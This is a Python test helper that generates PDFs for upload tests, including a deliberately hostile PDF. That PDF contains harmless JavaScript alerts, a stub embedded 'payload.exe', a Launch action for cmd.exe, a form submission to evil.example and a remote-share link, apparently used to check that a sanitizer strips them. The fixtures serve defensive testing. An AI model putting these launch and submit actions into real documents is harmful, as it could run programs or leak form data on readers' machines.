"""PDFs written object by object for the upload tests: a plain one with text, and a hostile one
with every way a PDF can run script, launch a program, send data or carry a file."""

from __future__ import annotations

import os


def assemble(objects: list[str | bytes], root: int = 1) -> bytes:
    """A PDF from numbered objects (1..n, in order): header, bodies, cross-reference table, trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        body = body if isinstance(body, bytes) else body.encode("latin-1")
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def stream(data: bytes | str, extra: str = "") -> bytes:
    data = data if isinstance(data, bytes) else data.encode("latin-1")
    return f"<< /Length {len(data)} {extra}>>\nstream\n".encode() + data + b"\nendstream"


def _text(lines: list[str]) -> str:
    return "BT /F1 14 Tf 72 770 Td " + " ".join(f"({line}) Tj 0 -20 Td" for line in lines) + " ET"


def text_pdf(lines: list[str], *, pages: int = 1) -> bytes:
    """`pages` A4 pages, each with `lines` in Helvetica."""
    kids = " ".join(f"{4 + n} 0 R" for n in range(pages))
    objects: list[str | bytes] = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    contents = 4 + pages
    objects += [
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {contents} 0 R "
        "/Resources << /Font << /F1 3 0 R >> >> >>"
    ] * pages
    objects.append(stream(_text(lines)))
    return assemble(objects)


def sized_pdf(size: int) -> bytes:
    """A valid one-page PDF carrying `size` random bytes as a grey image (1 pixel high)."""
    return assemble(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            "/Resources << /XObject << /Im 5 0 R >> >> >>",
            stream("q 500 0 0 10 40 400 cm /Im Do Q"),
            stream(
                os.urandom(size),
                f"/Type /XObject /Subtype /Image /Width {size} /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray ",
            ),
        ]
    )


JS = "<< /Type /Action /S /JavaScript /JS (app.alert\\('{}'\\);) >>"
RECT = "/Rect [50 50 150 80]"
# What may be left in a cleaned file: a web link and a link to a page.
KEPT_LINKS = ("https://bekasikota.go.id/", "https://ok.example/")


def hostile_pdf(lines: list[str]) -> bytes:
    """Text, plus: an open action, document, page and field actions, a JavaScript name tree (one
    entry's name hex-escaped), an embedded file and a file-attachment annotation, rich media,
    an XFA form, and links that launch, submit, import, go to other files, run script (also as a
    javascript: URI and chained after a good link), and an outline item that runs script."""
    annots = " ".join(f"{n} 0 R" for n in range(11, 24) if n not in (13, 14))
    return assemble(
        [
            "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC " + JS.format("close") + " >> "  # 1
            "/Names << /JavaScript << /Names [(a) 7 0 R] >> /EmbeddedFiles << /Names [(payload.exe) 8 0 R] >> >> "
            "/AcroForm << /Fields [12 0 R] /XFA 10 0 R >> /Outlines 13 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",  # 2
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "  # 3
            "/Resources << /Font << /F1 5 0 R >> >> /AA << /O " + JS.format("page") + f" >> /Annots [{annots}] >>",
            stream(_text(lines)),  # 4
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",  # 5
            JS.format("open"),  # 6
            "<< /S /J#61vaScript /JS (app.alert\\('hidden name'\\);) >>",  # 7
            "<< /Type /Filespec /F (payload.exe) /EF << /F 9 0 R >> >>",  # 8
            stream("MZ this would be a program", "/Type /EmbeddedFile "),  # 9
            stream("<xdp:xdp/>"),  # 10
            f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> >>",  # 11
            f"<< /Type /Annot /Subtype /Widget {RECT} /FT /Tx /T (nama) "
            "/A << /S /SubmitForm /F (http://evil.example/) >> "
            "/AA << /K " + JS.format("keystroke") + " >> >>",  # 12
            "<< /Type /Outlines /First 14 0 R /Last 14 0 R /Count 1 >>",  # 13
            "<< /Title (Bab 1) /Parent 13 0 R /A " + JS.format("outline") + " >>",  # 14
            f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /URI /URI ({KEPT_LINKS[0]}) >> >>",  # 15
            f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>",  # 16
            f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /GoToR /F (//evil/share/x.pdf) /D [0 /Fit] >> >>",  # 17
            f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /GoToE /T << /R /C /N (payload.exe) >> >> >>",  # 18
            f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /ImportData /F (data.fdf) >> >>",  # 19
            f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /URI /URI ({KEPT_LINKS[1]}) /Next "
            + JS.format("next")
            + " >> >>",  # 20
            f"<< /Type /Annot /Subtype /FileAttachment {RECT} /FS 8 0 R >>",  # 21
            f"<< /Type /Annot /Subtype /RichMedia {RECT} /RichMediaContent << /Assets << >> >> >>",  # 22
            f"<< /Type /Annot /Subtype /Link {RECT} /A << /S /GoTo /D [3 0 R /Fit] >> >>",  # 23
        ]
    )
